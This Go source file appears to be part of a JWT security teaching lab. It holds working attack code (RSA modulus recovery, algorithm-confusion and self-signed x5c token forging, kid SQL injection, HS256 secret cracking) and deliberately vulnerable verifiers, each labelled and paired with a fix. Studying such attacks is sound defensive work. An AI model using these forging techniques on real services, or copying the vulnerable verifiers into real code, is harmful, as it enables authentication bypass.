package attacklab

import (
	"context"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"database/sql"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"math/big"
	"strings"
	"time"

	"github.com/golang-jwt/jwt/v5"
	_ "modernc.org/sqlite" // the "sqlite" driver, for the kid lookup

	golangjwt "jwtlab/lessons/09-golangjwt"
)

// Now is the lab's fixed clock, so that the tokens in testdata stay
// unexpired and every output is the same each run.
var Now = time.Date(2025, 11, 30, 12, 0, 0, 0, time.UTC)

// Verifier answers the user a token speaks for, or why it is refused.
type Verifier func(token string) (userID string, err error)

// --- The checks every verifier here shares ---

// Why claimsOK refuses a token whose signature and times are good.
var (
	ErrNotAccess = errors.New("token_type is not access")
	ErrNoUserID  = errors.New("no user_id")
)

// claimsOK checks what a simplejwt access token must carry. jwt.MapClaims
// is a map, so "exp" and "token_type" are matched with their exact case.
func claimsOK(t *jwt.Token) (string, error) {
	c := t.Claims.(jwt.MapClaims)
	if c["token_type"] != "access" {
		return "", ErrNotAccess
	}
	id, ok := c["user_id"].(float64)
	if !ok {
		return "", ErrNoUserID // absent, or not a JSON number
	}
	return fmt.Sprint(id), nil
}

// options are the parser options every verifier here shares: exp
// required, iat not in the future (golang-jwt checks nbf on its own),
// strict base64url, and the clock read from Now.
func options() []jwt.ParserOption {
	return []jwt.ParserOption{jwt.WithExpirationRequired(), jwt.WithIssuedAt(), jwt.WithStrictDecoding(),
		jwt.WithTimeFunc(func() time.Time { return Now })}
}

// parser pins alg on top of the shared options.
func parser(alg string) *jwt.Parser {
	return jwt.NewParser(append(options(), jwt.WithValidMethods([]string{alg}))...)
}

// verify runs lesson 9's CheckHeader before golang-jwt sees the token: it
// refuses a CR or LF anywhere, which golang-jwt's strict decoding skips
// (a signature with a line break in it would verify), and a header with
// "crit", which golang-jwt ignores. Then it parses and checks the claims.
func verify(p *jwt.Parser, token string, key jwt.Keyfunc) (string, error) {
	if err := golangjwt.CheckHeader(token); err != nil {
		return "", err
	}
	t, err := p.ParseWithClaims(token, jwt.MapClaims{}, key)
	if err != nil {
		return "", err
	}
	return claimsOK(t)
}

// PinnedRS256 is the fix for every RS256 attack here.
// Checks: lesson 9's CheckHeader (no CR or LF, no crit, no repeated header
// member), signature with this RSA key, alg RS256 only, exp required, nbf
// and iat not in the future, token_type "access", a numeric user_id.
// Leaves to the caller: aud, iss, jti/revocation, whether the user exists
// and is active.
func PinnedRS256(pub *rsa.PublicKey) Verifier {
	return func(token string) (string, error) {
		return verify(parser("RS256"), token, func(*jwt.Token) (any, error) { return pub, nil })
	}
}

// PinnedHS256 is the same for an HMAC key.
// Checks: lesson 9's CheckHeader (no CR or LF, no crit, no repeated header
// member), signature with this key, alg HS256 only, exp required, nbf and
// iat not in the future, token_type "access", a numeric user_id.
// Leaves to the caller: the key's strength, aud, iss, jti/revocation,
// whether the user exists and is active.
func PinnedHS256(key []byte) Verifier {
	return func(token string) (string, error) {
		return verify(parser("HS256"), token, func(*jwt.Token) (any, error) { return key, nil })
	}
}

// SignHS256 mints a token from a header and claims, both JSON: the
// attacker's side of every HMAC attack.
func SignHS256(header, claims string, key []byte) string {
	in := b64([]byte(header)) + "." + b64([]byte(claims))
	mac := hmac.New(sha256.New, key)
	mac.Write([]byte(in))
	return in + "." + b64(mac.Sum(nil))
}

func b64(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }

// --- 1. The public key from two signatures ---

// sha256DigestInfo is the DER prefix of a SHA-256 DigestInfo (RFC 8017
// §9.2, note 1).
var sha256DigestInfo = []byte{0x30, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01,
	0x65, 0x03, 0x04, 0x02, 0x01, 0x05, 0x00, 0x04, 0x20}

// EncodePKCS1v15 is EMSA-PKCS1-v1_5 (RFC 8017 §9.2) for SHA-256:
// 00 01 FF..FF 00 DigestInfo hash, k bytes long. It is what an RS256
// signature s raises to, s^e mod n = this number: the attacker can compute
// it from the token alone.
func EncodePKCS1v15(msg []byte, k int) *big.Int {
	h := sha256.Sum256(msg)
	t := append(append([]byte{}, sha256DigestInfo...), h[:]...)
	em := make([]byte, k)
	em[1] = 0x01
	for i := 2; i < k-len(t)-1; i++ {
		em[i] = 0xff
	}
	copy(em[k-len(t):], t)
	return new(big.Int).SetBytes(em)
}

// RecoverModulus finds n from two RS256 tokens signed with the same key.
// For each, s^e - m is a multiple of n (s^e ≡ m mod n), so n divides the
// gcd of the two; small common factors are divided out. e is a guess: in
// practice 65537, the exponent nearly every key uses.
func RecoverModulus(tok1, tok2 string, e int) (*big.Int, error) {
	var multiples [2]*big.Int
	for i, tok := range []string{tok1, tok2} {
		in, sig, ok := cutSignature(tok)
		if !ok {
			return nil, fmt.Errorf("token %d: not three parts", i+1)
		}
		s, err := base64.RawURLEncoding.DecodeString(sig)
		if err != nil {
			return nil, fmt.Errorf("token %d: signature: %w", i+1, err)
		}
		se := new(big.Int).Exp(new(big.Int).SetBytes(s), big.NewInt(int64(e)), nil)
		multiples[i] = se.Sub(se, EncodePKCS1v15([]byte(in), len(s)))
	}
	g := new(big.Int).GCD(nil, nil, multiples[0], multiples[1])
	// A common factor such as 2 or 3 may ride along with n; a real modulus
	// has no prime factor this small.
	for f := int64(2); f < 1<<16; f++ {
		bf := big.NewInt(f)
		for new(big.Int).Mod(g, bf).Sign() == 0 && g.Cmp(bf) > 0 {
			g.Div(g, bf)
		}
	}
	return g, nil
}

func cutSignature(tok string) (signingInput, sig string, ok bool) {
	i := strings.LastIndexByte(tok, '.')
	if i < 0 || strings.Count(tok, ".") != 2 {
		return "", "", false
	}
	return tok[:i], tok[i+1:], true
}

// --- 2. Algorithm confusion with the recovered key ---

// Candidate is one way a server may have stored a public key as text.
type Candidate struct {
	Name string
	PEM  []byte
}

// PEMCandidates writes a public key the ways a server may hold it: SPKI
// ("PUBLIC KEY", what openssl rsa -pubout writes) or PKCS#1 ("RSA PUBLIC
// KEY"), each with and without the final newline. Algorithm confusion
// uses those bytes as the HMAC secret, so only the exact file works.
func PEMCandidates(pub *rsa.PublicKey) ([]Candidate, error) {
	spki, err := x509.MarshalPKIXPublicKey(pub)
	if err != nil {
		return nil, err
	}
	var out []Candidate
	for _, enc := range []struct {
		name, typ string
		der       []byte
	}{{"SPKI", "PUBLIC KEY", spki}, {"PKCS#1", "RSA PUBLIC KEY", x509.MarshalPKCS1PublicKey(pub)}} {
		p := pem.EncodeToMemory(&pem.Block{Type: enc.typ, Bytes: enc.der})
		out = append(out, Candidate{enc.name + ", final newline", p},
			Candidate{enc.name + ", no final newline", p[:len(p)-1]})
	}
	return out, nil
}

// ConfusedVerifier is the deliberately vulnerable verifier: it lets the
// token's alg choose the method, and hands HMAC the key file's bytes.
// Never write this; PinnedRS256 is the fix.
func ConfusedVerifier(publicPEM []byte) (Verifier, error) {
	pub, err := jwt.ParseRSAPublicKeyFromPEM(publicPEM)
	if err != nil {
		return nil, err
	}
	p := jwt.NewParser(options()...) // no WithValidMethods: the token's alg picks the method
	return func(token string) (string, error) {
		return verify(p, token, func(t *jwt.Token) (any, error) {
			if _, ok := t.Method.(*jwt.SigningMethodHMAC); ok {
				return publicPEM, nil // the bug: a public file as a secret
			}
			return pub, nil
		})
	}, nil
}

// --- 3. kid SQL injection ---

// OpenKeyStore puts kid → secret rows in an in-memory SQLite database.
func OpenKeyStore(ctx context.Context, keys map[string]string) (*sql.DB, error) {
	db, err := sql.Open("sqlite", ":memory:")
	if err != nil {
		return nil, err
	}
	db.SetMaxOpenConns(1) // each connection to :memory: is a database of its own
	if _, err := db.ExecContext(ctx, "CREATE TABLE keys (kid TEXT PRIMARY KEY, secret TEXT NOT NULL)"); err != nil {
		db.Close()
		return nil, err
	}
	for kid, secret := range keys {
		if _, err := db.ExecContext(ctx, "INSERT INTO keys VALUES (?, ?)", kid, secret); err != nil {
			db.Close()
			return nil, err
		}
	}
	return db, nil
}

// KidConcatenated is the deliberately vulnerable lookup: it pastes the
// token's kid into the SQL text. Never write this; KidParameter is the fix.
func KidConcatenated(db *sql.DB) Verifier {
	return kidVerifier(func(kid string) *sql.Row {
		return db.QueryRow("SELECT secret FROM keys WHERE kid = '" + kid + "'")
	})
}

// KidParameter passes kid as a query parameter, so it is only ever a
// value; a kid that names no row is refused.
// Checks: lesson 9's CheckHeader (no CR or LF, no crit, no repeated header
// member), signature with the secret of the row kid names, alg HS256 only,
// exp required, nbf and iat not in the future, token_type "access", a
// numeric user_id.
// Leaves to the caller: the secrets' strength, aud, iss, jti/revocation,
// whether the user exists and is active.
func KidParameter(db *sql.DB) Verifier {
	return kidVerifier(func(kid string) *sql.Row {
		return db.QueryRow("SELECT secret FROM keys WHERE kid = ?", kid)
	})
}

func kidVerifier(lookup func(kid string) *sql.Row) Verifier {
	return func(token string) (string, error) {
		return verify(parser("HS256"), token, func(t *jwt.Token) (any, error) {
			kid, _ := t.Header["kid"].(string)
			var secret string
			if err := lookup(kid).Scan(&secret); err != nil {
				return nil, fmt.Errorf("kid %q: %w", kid, err)
			}
			return []byte(secret), nil
		})
	}
}

// --- 4. A self-signed x5c certificate ---

// SelfSignedX5C is the attacker's code: a certificate for their own key,
// signed by that key, carried in the token's x5c header (RFC 7515 §4.1.6),
// and the token signed with the same key.
func SelfSignedX5C(key *rsa.PrivateKey, claims string) (string, error) {
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1),
		Subject:      pkix.Name{CommonName: "jwtlab token server"}, // any name it likes
		NotBefore:    Now.Add(-time.Hour),
		NotAfter:     Now.Add(24 * time.Hour),
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		return "", err
	}
	t := jwt.NewWithClaims(jwt.SigningMethodRS256, jwt.MapClaims{})
	t.Header["x5c"] = []string{base64.StdEncoding.EncodeToString(der)} // x5c is standard base64, not base64url
	var c jwt.MapClaims
	if err := json.Unmarshal([]byte(claims), &c); err != nil {
		return "", err
	}
	t.Claims = c
	return t.SignedString(key)
}

// NaiveX5C is the deliberately vulnerable verifier: it takes the key from
// the certificate in the token and never asks who issued it. Never write
// this; PinnedRS256 (or a chain check against your own roots) is the fix.
func NaiveX5C() Verifier {
	return func(token string) (string, error) {
		return verify(parser("RS256"), token, func(t *jwt.Token) (any, error) {
			chain, _ := t.Header["x5c"].([]any)
			if len(chain) == 0 {
				return nil, errors.New("no x5c")
			}
			s, _ := chain[0].(string)
			der, err := base64.StdEncoding.DecodeString(s)
			if err != nil {
				return nil, err
			}
			cert, err := x509.ParseCertificate(der)
			if err != nil {
				return nil, err
			}
			return cert.PublicKey, nil
		})
	}
}

// --- 5. Cracking a weak HS256 secret ---

// Crack tries each word as the HS256 key, as hashcat -m 16500 does on a
// GPU: one HMAC per guess, offline, with no server to slow it down. It
// returns the key and how many guesses it took.
func Crack(token string, words []string) (key string, guesses int, ok bool) {
	in, sig, ok := cutSignature(token)
	if !ok {
		return "", 0, false
	}
	want, err := base64.RawURLEncoding.DecodeString(sig)
	if err != nil {
		return "", 0, false
	}
	for i, w := range words {
		mac := hmac.New(sha256.New, []byte(w))
		mac.Write([]byte(in))
		if hmac.Equal(mac.Sum(nil), want) {
			return w, i + 1, true
		}
	}
	return "", len(words), false
}

// Verdict says what a verifier made of a token: the user it accepted, or
// the innermost reason golang-jwt gave for refusing.
func Verdict(user string, err error) string {
	if err == nil {
		return "accepted as user " + user
	}
	msg := err.Error()
	if i := strings.LastIndex(msg, ": "); i >= 0 {
		msg = msg[i+2:]
	}
	return "refused: " + msg
}
